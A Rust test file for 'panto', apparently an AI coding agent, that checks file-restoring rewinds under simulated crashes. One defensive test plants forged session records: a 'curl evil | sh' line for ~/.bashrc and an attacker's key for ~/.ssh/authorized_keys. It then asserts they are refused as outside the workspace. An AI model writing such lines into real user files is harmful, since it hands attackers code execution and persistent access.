//! A rewind with files survives a kill at any point, and a change panto recorded but never made
//! (killed between the two) does not make the file "changed outside panto". The kills are
//! simulated by a store that dies at its n-th write: the write lands or not, and nothing after
//! it does, as when the process is killed there; then a new agent resumes the session, as the
//! next process would.

use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::Arc;

use panto_core::store::{CheckpointRecord, LoadedBranch, PersistentMessage, SessionTree, StoredCheckpoint};
use panto_core::{
    async_trait, Agent, ApiStyle, Config, ContentBlock, Conversation, Error, FileCheckpoints, MemoryStore, Message,
    ProviderConfig, Result, Role, Session, SessionInfo, SessionStore,
};
use panto_tools::files::{FileOutcome, RestoredFile};
use panto_tools::{Options, Toolbox};

/// A store that dies at its write number `at` (0-based): that write lands (with `lands`) or not,
/// and every call after it fails, as in a process killed there.
#[derive(Debug)]
struct DiesAt {
    inner: Arc<MemoryStore>,
    at: usize,
    lands: bool,
    writes: AtomicUsize,
    dead: AtomicBool,
}

fn killed() -> Error {
    Error::store("the test's kill", "the process is gone")
}

impl DiesAt {
    fn alive(&self) -> Result<()> {
        if self.dead.load(Ordering::SeqCst) {
            return Err(killed());
        }
        Ok(())
    }

    /// Runs write `op`, or dies instead of or right after it.
    async fn write<T>(&self, op: impl std::future::Future<Output = Result<T>>) -> Result<T> {
        self.alive()?;
        if self.writes.fetch_add(1, Ordering::SeqCst) != self.at {
            return op.await;
        }
        self.dead.store(true, Ordering::SeqCst);
        if self.lands {
            op.await?;
        }
        Err(killed())
    }
}

#[async_trait]
impl SessionStore for DiesAt {
    async fn list(&self) -> Result<Vec<SessionInfo>> {
        self.alive()?;
        self.inner.list().await
    }
    async fn load_branch(&self, id: &str) -> Result<Option<LoadedBranch>> {
        self.alive()?;
        self.inner.load_branch(id).await
    }
    async fn append(&self, id: &str, messages: &[PersistentMessage<'_>]) -> Result<Vec<String>> {
        self.write(self.inner.append(id, messages)).await
    }
    async fn switch_branch(&self, id: &str, tip: Option<&str>) -> Result<()> {
        self.write(self.inner.switch_branch(id, tip)).await
    }
    async fn put_checkpoint(&self, id: &str, content: &[u8]) -> Result<String> {
        self.write(self.inner.put_checkpoint(id, content)).await
    }
    async fn get_checkpoint(&self, id: &str, address: &str) -> Result<Option<Vec<u8>>> {
        self.alive()?;
        self.inner.get_checkpoint(id, address).await
    }
    async fn record_checkpoint(&self, id: &str, record: &CheckpointRecord) -> Result<()> {
        self.write(self.inner.record_checkpoint(id, record)).await
    }
    async fn checkpoints(&self, id: &str) -> Result<Vec<StoredCheckpoint>> {
        self.alive()?;
        self.inner.checkpoints(id).await
    }
    async fn tree(&self, id: &str) -> Result<Option<SessionTree>> {
        self.alive()?;
        self.inner.tree(id).await
    }
    async fn fork(&self, from: &str, at: &str, new_id: &str) -> Result<()> {
        self.write(self.inner.fork(from, at, new_id)).await
    }
}

fn config() -> Config {
    // Nothing is sent: the tests only rewind.
    Config::new(
        ProviderConfig::new(ApiStyle::AnthropicMessages, "claude-sonnet-4-5")
            .with_base_url("http://127.0.0.1:9")
            .with_api_key("test-key"),
    )
}

/// What a test file first holds: a CR, a tab, non-ASCII and no final newline, so that a restore
/// that is not byte for byte shows.
const ORIGINAL: &[u8] = b"one\r\n\tcaf\xc3\xa9, no final newline";

/// One change a turn's tool makes: the file (relative to the work directory), its content after
/// (`None`: removed by the user before the turn, outside panto), and whether the write happened
/// (`false`: the process was killed between recording the change and making it).
struct Change<'a> {
    file: &'a str,
    after: &'a [u8],
    made: bool,
}

/// A session on `store` with one turn per entry of `turns` (a prompt, then an answer whose
/// tool changed files, recording each change first as the built-in tools do): the session's id
/// and its prompts' entry ids.
async fn session_with(store: &Arc<MemoryStore>, work: &Path, turns: &[&[Change<'_>]]) -> (String, Vec<String>) {
    let shared: Arc<dyn SessionStore> = store.clone();
    let mut session = Session::create(shared.clone());
    let mut conversation = Conversation::new();
    let mut prompts = Vec::new();
    for (i, changes) in turns.iter().enumerate() {
        for (role, text) in [
            (Role::User, format!("prompt {i}")),
            (Role::Assistant, format!("answer {i}")),
        ] {
            let message = Message::new(role, vec![ContentBlock::text(text)]);
            conversation.messages.push(message.clone());
            let ids = session
                .append(&[PersistentMessage::new(&message, &conversation)])
                .await
                .unwrap();
            if role == Role::User {
                prompts.push(ids[0].clone());
            }
        }
        let checkpoints = FileCheckpoints::new(shared.clone(), session.id());
        for change in changes.iter() {
            let path = work.join(change.file);
            let before = std::fs::read(&path).ok();
            checkpoints
                .record_change(path.to_str().unwrap(), before.as_deref(), Some(change.after))
                .await
                .unwrap();
            if change.made {
                std::fs::write(&path, change.after).unwrap();
            }
        }
    }
    (session.id().to_owned(), prompts)
}

async fn resume(store: Arc<dyn SessionStore>, id: &str) -> Agent {
    let session = Session::resolve(store, id).await.unwrap().unwrap();
    Agent::resume(config(), session).await.unwrap()
}

fn toolbox(work: &Path) -> Toolbox {
    Toolbox::new(&Options::new(work)).unwrap()
}

/// Whether any file of `report` was left alone.
fn left_alone(report: &[RestoredFile]) -> Vec<&RestoredFile> {
    report
        .iter()
        .filter(|f| matches!(f.outcome, FileOutcome::ChangedOutside | FileOutcome::Failed { .. }))
        .collect()
}

#[tokio::test]
async fn a_rewind_with_files_killed_at_any_point_is_completed_by_the_same_rewind_again() {
    // Turn 0 edits a.txt and creates kept.txt; turn 1 edits a.txt again and creates new.txt.
    // A rewind to before turn 1 must leave a.txt as turn 0 left it, remove new.txt and keep
    // kept.txt. Its writes: a.txt's checkpoint and restore record, new.txt's, the switch.
    let mut completed = false;
    for at in 0.. {
        for lands in [false, true] {
            let dir = tempfile::tempdir().unwrap();
            let work = dir.path().canonicalize().unwrap();
            let (a, kept, new): (PathBuf, PathBuf, PathBuf) =
                (work.join("a.txt"), work.join("kept.txt"), work.join("new.txt"));
            std::fs::write(&a, ORIGINAL).unwrap();
            let store = MemoryStore::new();
            let turn0 = [
                Change {
                    file: "a.txt",
                    after: b"turn 0\n",
                    made: true,
                },
                Change {
                    file: "kept.txt",
                    after: b"kept",
                    made: true,
                },
            ];
            let turn1 = [
                Change {
                    file: "a.txt",
                    after: b"turn 1\n",
                    made: true,
                },
                Change {
                    file: "new.txt",
                    after: b"created",
                    made: true,
                },
            ];
            let (id, prompts) = session_with(&store, &work, &[&turn0, &turn1]).await;
            let case = format!("killed at write {at} ({})", if lands { "landed" } else { "not landed" });

            let dying = Arc::new(DiesAt {
                inner: store.clone(),
                at,
                lands,
                writes: AtomicUsize::new(0),
                dead: AtomicBool::new(false),
            });
            let mut agent = resume(dying.clone(), &id).await;
            let first = toolbox(&work).rewind_with_files(&mut agent, &prompts[1]).await;
            drop(agent);
            if !dying.dead.load(Ordering::SeqCst) {
                let report = first.unwrap();
                assert!(left_alone(&report).is_empty(), "{report:?}");
                completed = true;
            }

            // The next process: the same rewind again if the prompt is still there.
            let mut agent = resume(store.clone(), &id).await;
            if agent.prompts().iter().any(|(p, _)| *p == prompts[1]) {
                let report = toolbox(&work)
                    .rewind_with_files(&mut agent, &prompts[1])
                    .await
                    .unwrap_or_else(|e| panic!("{case}: the rewind again failed: {e}"));
                assert!(left_alone(&report).is_empty(), "{case}: {report:?}");
            }
            assert_eq!(
                agent.conversation().messages.len(),
                2,
                "{case}: rewound to before prompt 1"
            );
            assert_eq!(std::fs::read(&a).unwrap(), b"turn 0\n", "{case}: a.txt byte for byte");
            assert_eq!(std::fs::read(&kept).unwrap(), b"kept", "{case}: kept.txt untouched");
            assert!(!new.exists(), "{case}: new.txt, created since, removed");
            let resumed = resume(store.clone(), &id).await;
            assert_eq!(resumed.conversation().messages.len(), 2, "{case}: the stored branch");
        }
        if completed {
            break;
        }
    }
}

#[tokio::test]
async fn a_change_recorded_but_never_made_is_panto_s_own_and_a_rewind_restores_over_it() {
    let dir = tempfile::tempdir().unwrap();
    let work = dir.path().canonicalize().unwrap();
    let (a, b) = (work.join("a.txt"), work.join("b.txt"));
    std::fs::write(&a, ORIGINAL).unwrap();
    std::fs::write(&b, b"b as it was").unwrap();
    let store = MemoryStore::new();
    let turn0 = [
        Change {
            file: "a.txt",
            after: b"turn 0\n",
            made: true,
        },
        Change {
            file: "b.txt",
            after: b"b by turn 0",
            made: true,
        },
    ];
    let (id, prompts) = session_with(&store, &work, &[&turn0]).await;
    // b.txt is removed by hand; then turn 1's changes are recorded, and the process is killed
    // before it makes them: a.txt still holds turn 0's content, b.txt does not exist (the
    // record of it says it was created).
    std::fs::remove_file(&b).unwrap();
    let turn1 = [
        Change {
            file: "a.txt",
            after: b"turn 1\n",
            made: false,
        },
        Change {
            file: "b.txt",
            after: b"b by turn 1",
            made: false,
        },
    ];
    let checkpoints = FileCheckpoints::new(store.clone(), &id);
    let mut conversation = store.load(&id).await.unwrap().unwrap();
    for (role, text) in [(Role::User, "prompt 1"), (Role::Assistant, "answer 1")] {
        let message = Message::new(role, vec![ContentBlock::text(text)]);
        conversation.messages.push(message.clone());
        store
            .append(&id, &[PersistentMessage::new(&message, &conversation)])
            .await
            .unwrap();
    }
    for change in &turn1 {
        let path = work.join(change.file);
        let before = std::fs::read(&path).ok();
        checkpoints
            .record_change(path.to_str().unwrap(), before.as_deref(), Some(change.after))
            .await
            .unwrap();
    }

    let mut agent = resume(store.clone(), &id).await;
    let report = toolbox(&work).rewind_with_files(&mut agent, &prompts[0]).await.unwrap();
    let outcomes: Vec<(&str, &FileOutcome)> = report
        .iter()
        .map(|f| (f.path.rsplit('/').next().unwrap(), &f.outcome))
        .collect();
    assert_eq!(
        outcomes,
        [("a.txt", &FileOutcome::Restored), ("b.txt", &FileOutcome::Restored)],
        "neither was changed outside panto"
    );
    assert_eq!(std::fs::read(&a).unwrap(), ORIGINAL, "byte for byte");
    assert_eq!(std::fs::read(&b).unwrap(), b"b as it was");
    assert!(agent.conversation().messages.is_empty());
}

#[tokio::test]
async fn a_rewind_restores_no_file_outside_the_workspace_whatever_the_session_s_records_say() {
    // A session file is as trustworthy as whoever could write it: these records, planted in it,
    // say panto's turn left the user's `~/.bashrc` and `~/.ssh/authorized_keys` holding what
    // they hold now, and that before the turn they held the attacker's content. A rewind must
    // restore the workspace's file and leave those alone, saying so.
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().canonicalize().unwrap();
    let (work, home) = (root.join("work"), root.join("home"));
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::create_dir(&work).unwrap();
    let inside = work.join("a.txt");
    std::fs::write(&inside, ORIGINAL).unwrap();
    let (bashrc, keys) = (home.join(".bashrc"), home.join(".ssh/authorized_keys"));
    std::fs::write(&bashrc, b"# the user's bashrc\n").unwrap();
    std::fs::write(&keys, b"ssh-ed25519 AAAA the-user\n").unwrap();

    let store = MemoryStore::new();
    let turn0 = [Change {
        file: "a.txt",
        after: b"turn 0\n",
        made: true,
    }];
    let (id, prompts) = session_with(&store, &work, &[&turn0]).await;
    let planted = FileCheckpoints::new(store.clone(), &id);
    for (path, evil) in [
        (&bashrc, &b"curl evil | sh\n"[..]),
        (&keys, &b"ssh-ed25519 AAAA the-attacker\n"[..]),
    ] {
        let now = std::fs::read(path).unwrap();
        planted
            .record_change(path.to_str().unwrap(), Some(evil), Some(&now))
            .await
            .unwrap();
    }

    let mut agent = resume(store.clone(), &id).await;
    let report = toolbox(&work).rewind_with_files(&mut agent, &prompts[0]).await.unwrap();
    assert_eq!(
        std::fs::read(&inside).unwrap(),
        ORIGINAL,
        "the workspace's file is restored"
    );
    assert_eq!(std::fs::read(&bashrc).unwrap(), b"# the user's bashrc\n");
    assert_eq!(std::fs::read(&keys).unwrap(), b"ssh-ed25519 AAAA the-user\n");
    let outcome = |path: &Path| {
        report
            .iter()
            .find(|f| f.path == path.to_str().unwrap())
            .map(|f| f.outcome.clone())
    };
    assert_eq!(outcome(&inside), Some(FileOutcome::Restored), "{report:?}");
    for path in [&bashrc, &keys] {
        match outcome(path) {
            Some(FileOutcome::Failed { error }) => {
                assert!(error.contains("is outside the workspace"), "{error}");
                assert!(error.contains(work.to_str().unwrap()), "names the workspace: {error}");
            }
            other => panic!("{} must be reported left alone, got {other:?}", path.display()),
        }
    }
}
